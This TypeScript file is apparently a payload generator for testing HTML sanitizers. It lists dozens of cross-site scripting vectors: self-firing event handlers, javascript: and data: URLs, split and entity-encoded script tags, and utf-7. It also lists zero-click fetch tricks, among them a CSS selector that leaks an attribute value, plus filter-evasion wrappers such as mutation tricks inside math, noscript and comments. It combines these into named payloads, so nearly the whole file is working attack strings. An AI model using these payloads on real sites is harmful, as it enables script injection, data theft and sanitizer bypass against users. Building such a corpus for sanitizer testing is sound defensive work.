/** What a payload would do: `{js}` runs, `{url}` is fetched; both name the payload, so that a hit tells which one it was. */
export type Payload = { name: string; html: string };

/** Handlers that fire by themselves, with what makes them fire. */
const HANDLERS: readonly [string, string][] = [
  ["img error", '<img src=x onerror="{js}">'],
  ["img load", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{js}">'],
  ["body load", '<body onload="{js}">'],
  ["body pageshow", '<body onpageshow="{js}">'],
  ["svg load", '<svg onload="{js}"></svg>'],
  ["details toggle", '<details open ontoggle="{js}"><summary>x</summary></details>'],
  ["input focus", '<input autofocus onfocus="{js}">'],
  ["select focus", '<select autofocus onfocus="{js}"></select>'],
  ["textarea focus", '<textarea autofocus onfocus="{js}"></textarea>'],
  ["button focus", '<button autofocus onfocus="{js}">x</button>'],
  ["div focus", '<div tabindex=1 autofocus onfocus="{js}">x</div>'],
  ["marquee start", '<marquee onstart="{js}">x</marquee>'],
  ["video error", '<video onerror="{js}"><source src=x></video>'],
  ["audio error", '<audio src=x onerror="{js}"></audio>'],
  ["object error", '<object data="x" onerror="{js}"></object>'],
  ["embed load", '<embed src="data:text/html,x" onload="{js}">'],
  ["iframe load", '<iframe onload="{js}"></iframe>'],
  ["style load", '<style onload="{js}"></style>'],
  ["link error", '<link rel=stylesheet href=x onerror="{js}">'],
  ["script error", '<script src=x onerror="{js}"></script>'],
  [
    "animation",
    '<style>@keyframes k{from{top:0}}</style><b style="animation:k 1ms" onanimationstart="{js}">x</b>',
  ],
  ["transition", '<b style="transition:all 1ms" ontransitionend="{js}">x</b>'],
  ["animate begin", '<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>'],
  ["set begin", '<svg><set onbegin="{js}" attributeName=x to=1></svg>'],
  ["svg image", '<svg><image href=x onerror="{js}" /></svg>'],
  [
    "content visibility",
    '<b style="content-visibility:auto" oncontentvisibilityautostatechange="{js}">x</b>',
  ],
  ["picture", '<picture><source srcset=x><img onerror="{js}"></picture>'],
  ["input image", '<input type=image src=x onerror="{js}">'],
];
/** Ways to hide a tag from a filter that looks for it. */
const DISGUISES: readonly [string, (html: string) => string][] = [
  ["plain", (html) => html],
  [
    "capitals",
    (html) =>
      html.replace(/<(\/?)([a-z]+)/g, (_all, end: string, tag: string) => `<${end}${tag.toUpperCase()}`),
  ],
  ["slashes", (html) => html.replace(/<([a-z]+) /gi, "<$1/")],
  ["form feed", (html) => html.replace(/<([a-z]+) /gi, "<$1\f")],
  ["after a comment", (html) => `<!--><b --!>${html}`],
  ["in a table", (html) => `<table><tr>${html}</table>`],
  ["in svg", (html) => `<svg><desc>${html}</desc></svg>`],
  [
    "in math",
    (html) => `<math><mtext><table><mglyph><style><!--</style>${html}--></mglyph></table></mtext></math>`,
  ],
  ["in noscript", (html) => `<noscript><p title="</noscript>${html.replaceAll('"', "'")}">`],
  ["in a title", (html) => `<title></title>${html}`],
  ["in an attribute", (html) => `<p title="'>${html.replaceAll('"', "'")}">x</p>${html}`],
  ["unended", (html) => `<p><b><i>${html}<p x="`],
];
/** What is fetched without a click. */
const FETCHES: readonly [string, string][] = [
  ["img", '<img src="{url}">'],
  ["img srcset", '<img srcset="{url} 1x">'],
  ["picture", '<picture><source srcset="{url}"><img></picture>'],
  ["lowsrc", '<img lowsrc="{url}" dynsrc="{url}">'],
  ["svg image", '<svg><image href="{url}" width=9 height=9 /></svg>'],
  ["svg use", '<svg><use href="{url}#x" /></svg>'],
  [
    "svg filter",
    '<svg><filter id=f><feImage href="{url}" /></filter><rect width=9 height=9 filter="url(#f)" /></svg>',
  ],
  ["video", '<video src="{url}" autoplay></video>'],
  ["poster", '<video poster="{url}"></video>'],
  ["audio", '<audio src="{url}" autoplay></audio>'],
  ["track", '<video src=x><track default src="{url}"></video>'],
  ["iframe", '<iframe src="{url}"></iframe>'],
  ["frame", '<frameset><frame src="{url}"></frameset>'],
  ["object", '<object data="{url}"></object>'],
  ["embed", '<embed src="{url}">'],
  ["script", '<script src="{url}"></script>'],
  ["module", '<script type=module src="{url}"></script>'],
  ["stylesheet", '<link rel=stylesheet href="{url}">'],
  ["preload", '<link rel=preload as=image href="{url}">'],
  ["prefetch", '<link rel=prefetch href="{url}">'],
  ["preconnect", '<link rel=preconnect href="{url}">'],
  ["modulepreload", '<link rel=modulepreload href="{url}">'],
  ["icon", '<link rel=icon href="{url}">'],
  ["manifest", '<link rel=manifest href="{url}">'],
  ["import", '<style>@import "{url}";</style>'],
  ["background", "<style>body{background:url({url})}</style>"],
  ["font", "<style>@font-face{font-family:f;src:url({url})}p{font-family:f}</style><p>x</p>"],
  ["cursor", "<style>*{cursor:url({url}),auto}</style>"],
  ["content", "<style>p::before{content:url({url})}</style><p>x</p>"],
  ["attribute leak", '<style>input[value^="a"]{background:url({url})}</style><input value=abc>'],
  ["inline background", '<p style="background:url({url})">x</p>'],
  ["inline image set", '<p style="background:image-set(url({url}) 1x)">x</p>'],
  ["inline list", '<ul><li style="list-style:url({url})">x</ul>'],
  ["inline border", '<p style="border-image:url({url}) 1">x</p>'],
  ["inline escape", '<p style="background:\\75rl({url})">x</p>'],
  ["inline comment", '<p style="back/**/ground:u/**/rl({url});background:url({url})">x</p>'],
  ["body attribute", '<body background="{url}">'],
  ["table attribute", '<table background="{url}"><tr><td background="{url}">x</table>'],
  ["refresh", '<meta http-equiv=refresh content="0;url={url}">'],
  ["base", '<base href="{url}/"><img src="a.png">'],
  ["input image", '<input type=image src="{url}">'],
  ["form", '<form action="{url}"><input name=a autofocus onfocus="this.form.submit()"></form>'],
  ["speculation", '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>'],
  ["srcdoc", '<iframe srcdoc="<img src={url}>"></iframe>'],
  ["data frame", '<iframe src="data:text/html,<img src={url}>"></iframe>'],
  ["html manifest", '<html manifest="{url}">'],
  ["xml stylesheet", '<?xml-stylesheet href="{url}"?><p>x</p>'],
  [
    "shadow root",
    '<div><template shadowrootmode=open><style>@import "{url}";</style><img src="{url}"></template></div>',
  ],
];
/** Scripts by themselves, and addresses that are scripts. */
const SCRIPTS: readonly [string, string][] = [
  ["script", "<script>{js}</script>"],
  ["module", "<script type=module>{js}</script>"],
  ["half a script", "<scr<script>ipt>{js}</scr</script>ipt>"],
  ["blank in the end tag", "<script>{js}</script\t\nx>"],
  ["svg script", "<svg><script>{js}</script></svg>"],
  ["svg script with address", '<svg><script href="data:text/javascript,{js}"></script></svg>'],
  ["data script", '<script src="data:text/javascript,{js}"></script>'],
  ["javascript frame", '<iframe src="javascript:{js}"></iframe>'],
  ["javascript frame with tab", '<iframe src="java\tscript:{js}"></iframe>'],
  ["javascript frame in entities", '<iframe src="&#106;avascript:{js}"></iframe>'],
  ["javascript object", '<object data="javascript:{js}"></object>'],
  ["javascript embed", '<embed src="javascript:{js}">'],
  ["javascript refresh", '<meta http-equiv=refresh content="0;url=javascript:{js}">'],
  ["data refresh", '<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">'],
  ["srcdoc", '<iframe srcdoc="<script>{js}</script>"></iframe>'],
  ["svg foreign", "<svg><foreignObject><body><script>{js}</script></body></foreignObject></svg>"],
  ["math link", '<math><maction actiontype="statusline" xlink:href="javascript:{js}">x</maction></math>'],
  [
    "svg animate link",
    '<svg><a><animate attributeName=href values="javascript:{js}" /><text y=20>x</text></a></svg>',
  ],
  ["shadow root", "<div><template shadowrootmode=open><script>{js}</script></template></div>"],
  ["expression", '<p style="width:expression({js})">x</p>'],
  ["binding", '<p style="-moz-binding:url(data:text/xml,{js})">x</p>'],
  ["document type", '<!DOCTYPE x [<!ENTITY e "<script>{js}</script>">]><p>&e;</p>'],
  ["processing instruction", "<?php <script>{js}</script> ?><script>{js}</script>"],
  ["conditional comment", "<!--[if gte IE 4]><script>{js}</script><![endif]--><script>{js}</script>"],
  ["cdata", "<![CDATA[<script>{js}</script>]]>"],
  ["zero byte", "<scr\u0000ipt>{js}</scr\u0000ipt><script>{js}</script>"],
  ["utf-7", '<meta charset="utf-7">+ADw-script+AD4-{js}+ADw-/script+AD4-'],
];

/** At least `count` payloads, always the same ones: every way to run or fetch, each in one disguise after the other. */
export function payloads(count: number): Payload[] {
  const ways = [...SCRIPTS, ...HANDLERS, ...FETCHES];
  return Array.from({ length: count }, (_, n) => {
    const [way = "", html = ""] = ways[n % ways.length] ?? [];
    const [how = "", disguise = (text: string) => text] =
      DISGUISES[Math.floor(n / ways.length) % DISGUISES.length] ?? [];
    return { name: `${way}, ${how}`, html: disguise(html) };
  });
}
